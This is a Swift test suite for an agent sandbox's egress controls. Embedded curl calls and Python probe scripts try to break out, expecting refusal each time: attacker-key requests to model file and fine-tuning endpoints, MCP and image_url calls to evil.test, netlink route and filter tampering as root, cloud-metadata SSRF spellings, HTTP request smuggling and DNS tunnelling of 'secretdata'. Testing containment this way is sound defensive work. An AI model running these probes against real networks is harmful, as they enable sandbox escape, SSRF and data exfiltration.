import Foundation
import Glibc
import RookeryConfiguration
import RookeryGateway
import RookeryModel
import RookeryTestSupport
import Synchronization
import Testing

@testable import RookerySandbox

extension EgressTests {
  /// With a key of the attacker's own, to the model's own name, to what would bring things in or out.
  @Test(.timeLimit(.minutes(2))) func theModelIsReachedThroughItsBrokerAlone() async throws {
    try await withSandbox { stack, outside, sandbox, grant in
      var grant = grant
      grant.model = Grant.Model(
        url: "https://elsewhere.test", wire: .openai, key: Secret("operators-model-key"), name: "large", tokenAllowance: nil)
      try await stack.gateway.grant(grant)
      let own = "-H 'Authorization: Bearer mine' -H 'X-Api-Key: mine' -H 'OpenAI-Organization: mine' -H 'Content-Type: application/json'"
      func ask(_ path: String, _ body: String) async throws -> String {
        try await run("curl -sS \(own) -d '\(body)' \(Broker.model.origin)\(path)", in: sandbox).text
      }
      let plain = #"{"model":"large","messages":[{"role":"user","content":"x"}]}"#
      #expect(try await ask("/v1/chat/completions", plain).contains(#""method": "POST""#))
      var refused = ""
      for (path, body) in [
        ("/v1/files", plain), ("/v1/uploads", plain), ("/v1/fine_tuning/jobs", plain), ("/v1/vector_stores", plain), ("/v1/batches", plain),
        ("/v1/chat/completions?x=/../../v1/files", #"{"model":"other","messages":[]}"#), ("/v1/../v1/files", plain),
        ("/v1/chat/completions", #"{"model":"other","messages":[]}"#),
        ("/v1/responses", #"{"model":"large","input":[],"tools":[{"type":"web_search"}]}"#),
        ("/v1/responses", #"{"model":"large","input":[],"tools":[{"type":"mcp","server_url":"https://evil.test"}]}"#),
        ("/v1/responses", #"{"model":"large","input":[],"background":true}"#),
        (
          "/v1/chat/completions",
          #"{"model":"large","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"https://evil.test/data"}}]}]}"#
        ),
      ] { refused += try await ask(path, body) }
      refused += try await run("curl -sS \(own) -d '\(plain)' https://elsewhere.test/v1/chat/completions", in: sandbox).text
      #expect(!refused.contains(#""method""#), "\(refused)")
      let asked = outside.log.split(separator: "\n")
      #expect(asked.count == 1 && asked.allSatisfy { $0.contains("operators-model-key") && !$0.contains("mine") }, "\(asked)")
    }
  }

  /// Even root inside changes nothing about the network.
  @Test(.timeLimit(.minutes(2))) func rootInsideCannotChangeTheNetwork() async throws {
    try await withSandbox { stack, outside, sandbox, _ in
      let script = """
        import ctypes, os, socket, struct
        def tried(name, attempt):
            try: print("ESCAPED", name, attempt())
            except Exception as error: print("refused", name, error)
        def netlink(family, kind, flags, body):
            s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, family); s.bind((0, 0)); s.settimeout(5)
            s.send(struct.pack("=IHHII", 16 + len(body), kind, 5 | flags, 1, 0) + body)
            answer = s.recv(65536)
            code = struct.unpack("=i", answer[16:20])[0]
            if code: raise OSError(-code, os.strerror(-code))
            return "done"
        # Delete the route to all, add an address and a device, flush the packet filter's table.
        route = struct.pack("=BBBBBBBBI", socket.AF_INET, 0, 0, 0, 255, 3, 254, 2, 0)
        tried("route", lambda: netlink(0, 25, 0, route + struct.pack("=HHI", 8, 4, 1)))
        tried("address", lambda: netlink(0, 20, 0x600, struct.pack("=BBBBI", 2, 24, 0, 0, 1) + struct.pack("=HH4s", 8, 2, bytes([10, 0, 0, 1]))))
        tried("device", lambda: netlink(0, 16, 0x600, struct.pack("=BBHiII", 0, 0, 0, 0, 0, 0) + struct.pack("=HH8s", 12, 3, b"veth9")))
        name = b"rookery\\0"
        tried("filter", lambda: netlink(12, 0x0a02, 0, struct.pack("=BBH", 1, 0, 0) + struct.pack("=HH8s", 12, 1, name)))
        tried("log", lambda: netlink(12, 0x0401, 0, struct.pack(">BBH", 0, 0, 61) + struct.pack("=HHB3x", 5, 1, 2)))
        tried("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 255))
        tried("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3))
        tried("vsock", lambda: socket.socket(40, socket.SOCK_STREAM))
        s = socket.socket()
        tried("transparent", lambda: s.setsockopt(socket.SOL_IP, 19, 1))
        tried("mark", lambda: s.setsockopt(socket.SOL_SOCKET, 36, 1))
        def taken(port):
            t = socket.socket(); t.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); t.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
            t.bind(("127.0.0.1", port)); t.listen(); return port
        for port in [61418, 61419, 61420, 61421]: tried(f"take {port}", lambda: taken(port))
        libc = ctypes.CDLL(None, use_errno=True)
        def namespace(flag):
            if libc.unshare(flag): raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
            return "done"
        for flag in [0x40000000, 0x10000000]: tried(f"namespace {flag:#x}", lambda: namespace(flag))
        print("done")
        """
      for account in [ProcessSpec.Account.agent, .root] {
        let result = try await sandbox.run(
          ProcessSpec(
            id: .random(prefix: "p-"), argv: ["/bin/sh", "-c", "exec 2>&1; python3 - <<'P'\n\(script)\nP"],
            environment: BuildShell.environment(of: account), directory: "/tmp", account: account))
        #expect(result.output.hasSuffix("done\n") && !result.output.contains("ESCAPED"), "\(account): \(result.output)")
      }
      #expect(try await run("curl -sS http://open.test/still", in: sandbox).text.contains("/still"))
    }
  }

  @Test func nothingElseLeaves() async throws {
    try await withSandbox { stack, outside, sandbox, _ in
      let probe = Self.probe
      let results = try await run("cat > /tmp/probe.py <<'P'\n\(probe)\nP\npython3 /tmp/probe.py", in: sandbox)
      let lines = results.text.split(separator: "\n")
      #expect(lines.last == "done", "\(results.text)")
      for line in lines { #expect(!line.hasPrefix("ESCAPED"), "\(line)") }
      #expect(outside.log.isEmpty, "\(outside.log)")
      // A flood of refusals is told of, and not in full.
      let told = try await refusals(stack, of: sandbox.id)
      #expect((10...35).contains(told.count), "\(told.count)")
    }
  }

  /// Ways out that are known to have worked somewhere.
  static let probe = #"""
    import errno, os, socket, ssl, struct, time
    def tried(name, attempt):
        start = time.time()
        try:
            result = attempt()
            print("ESCAPED" if result else "refused", name, result, f"{time.time() - start:.2f} s")
        except Exception as error:
            print("refused", name, type(error).__name__, error, f"{time.time() - start:.2f} s")
    def tls(host, name, port=443):
        context = ssl._create_unverified_context()
        context.check_hostname = False
        s = context.wrap_socket(socket.create_connection((host, port), 10), server_hostname=name)
        s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        return s.recv(100)
    def http(host, head, port=80):
        s = socket.create_connection((host, port), 10); s.settimeout(20)
        s.sendall(head); answer = s.recv(4000)
        return answer if answer.startswith(b"HTTP/1.1 2") or answer.startswith(b"HTTP/1.1 3") else b""
    get = lambda target, host: f"GET {target} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode()
    # Metadata and private addresses in every spelling, by address and by Host.
    for spelling in ["169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518", "[::ffff:169.254.169.254]",
                     "[fd00:ec2::254]", "127.0.0.1", "127.1", "0", "localhost", "10.0.0.1", "192.168.1.1", "100.64.0.1", "metadata.google.internal",
                     "instance-data", "169.254.169.254.nip.io", "open.test.169.254.169.254"]:
        tried("host " + spelling, lambda: http("1.2.3.4", get("/latest/meta-data/", spelling)))
        tried("sni " + spelling, lambda: tls("1.2.3.4", spelling.strip("[]")))
    tried("by address", lambda: http("169.254.169.254", get("/", "169.254.169.254")))
    # Names that are allowed and lead inwards.
    for name in ["rebound.test", "inner.test"]:
        tried("http " + name, lambda: http("1.2.3.4", get("/", name)))
        tried("tls " + name, lambda: tls("1.2.3.4", name))
    # Another name, no name, an address.
    tried("forbidden name", lambda: socket.getaddrinfo("forbidden.test", 443))
    tried("forbidden sni", lambda: tls("1.2.3.4", "forbidden.test"))
    tried("no sni", lambda: tls("1.2.3.4", None))
    tried("wildcard's own name", lambda: tls("1.2.3.4", "wild.test"))
    tried("suffix", lambda: tls("1.2.3.4", "open.test.evil.test"))
    # Requests that two servers read differently.
    for name, request in [
        ("absolute form", get("http://forbidden.test/", "open.test")), ("absolute form, allowed", get("http://open.test/", "forbidden.test")),
        ("connect", b"CONNECT forbidden.test:443 HTTP/1.1\r\nHost: forbidden.test:443\r\n\r\n"),
        ("connect, allowed", b"CONNECT open.test:443 HTTP/1.1\r\nHost: open.test:443\r\n\r\n"),
        ("two hosts", b"GET / HTTP/1.1\r\nHost: open.test\r\nHost: forbidden.test\r\n\r\n"),
        ("no host", b"GET / HTTP/1.1\r\n\r\n"), ("http/1.0", b"GET / HTTP/1.0\r\n\r\n"),
        ("user in host", get("/", "open.test@forbidden.test")), ("port in host", get("/", "open.test:22")),
        ("cl and te", b"POST / HTTP/1.1\r\nHost: open.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\n\r\n"),
        ("te te", b"POST / HTTP/1.1\r\nHost: open.test\r\nTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n"),
        ("two lengths", b"POST / HTTP/1.1\r\nHost: open.test\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab"),
        ("folded", b"GET / HTTP/1.1\r\nHost: open.test\r\nX: a\r\n b\r\n\r\n"), ("bare lf", b"GET / HTTP/1.1\nHost: open.test\n\n"),
        ("upgrade", b"GET / HTTP/1.1\r\nHost: open.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n"),
        ("h2c", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), ("dots", get("/a/../b", "open.test")), ("encoded dots", get("/a/%2e%2e/b", "open.test")),
        ("long header", b"GET / HTTP/1.1\r\nHost: open.test\r\nX: " + b"a" * 200000 + b"\r\n\r\n"),
        ("many headers", b"GET / HTTP/1.1\r\nHost: open.test\r\n" + b"".join(b"X%d: a\r\n" % n for n in range(2000)) + b"\r\n"),
    ]: tried(name, lambda: http("1.2.3.4", request))
    def big_hello():
        s = socket.create_connection(("1.2.3.4", 443), 10); s.settimeout(20)
        for _ in range(20): s.sendall(b"\x16\x03\x01\x40\x00" + b"\x01\x00\xff\xff" + b"a" * 16380)
        return s.recv(10) not in (b"",) and False
    tried("oversized hello", big_hello)
    # Other ports and protocols.
    for host, port in [("1.1.1.1", 22), ("1.1.1.1", 25), ("1.1.1.1", 853), ("open.test", 22), ("169.254.169.254", 8080), ("2606:4700::1111", 853)]:
        start = time.time()
        tried(f"tcp {host}:{port}", lambda: socket.create_connection((host, port), 10))
        if time.time() - start > 5: print("ESCAPED slow", host, port)
    def udp(host, port, family=socket.AF_INET):
        s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(3); s.connect((host, port)); s.send(b"x" * 1200); return s.recv(10)
    for host, port in [("1.1.1.1", 443), ("1.1.1.1", 123), ("169.254.169.254", 80), ("8.8.8.8", 5353)]: tried(f"udp {host}:{port}", lambda: udp(host, port))
    tried("udp v6", lambda: udp("2606:4700::1111", 53, socket.AF_INET6))
    tried("ping socket", lambda: (lambda s: (s.settimeout(3), s.sendto(b"\x08\0\0\0\0\0\0\0", ("1.1.1.1", 0)), s.recv(10)))(socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1)))
    tried("raw socket", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
    # Any name server that is asked is ours; tunnels through names lead nowhere.
    def name(server, question, kind):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(10); s.connect((server, 53))
        s.send(b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0" + b"".join(bytes([len(l)]) + l.encode() for l in question.split(".")) + b"\0" + struct.pack(">HH", kind, 1))
        answer = s.recv(600)
        return answer if struct.unpack(">H", answer[6:8])[0] else b""
    for server in ["8.8.8.8", "198.18.0.53"]:
        for question, kind in [("secretdata.evil.test", 1), ("secretdata.evil.test", 16), ("open.test", 65), ("open.test", 64), ("open.test", 28), ("open.test", 16)]:
            tried(f"name {question} {kind} at {server}", lambda: name(server, question, kind))
    # Ours, dialled directly: without a redirection they serve nobody.
    for port in [61420, 61421]:
        tried(f"own socket {port}", lambda: http("127.0.0.1", get("/", "open.test"), port))
        tried(f"own socket {port} tls", lambda: tls("127.0.0.1", "open.test", port))
    print("done")
    """#
}
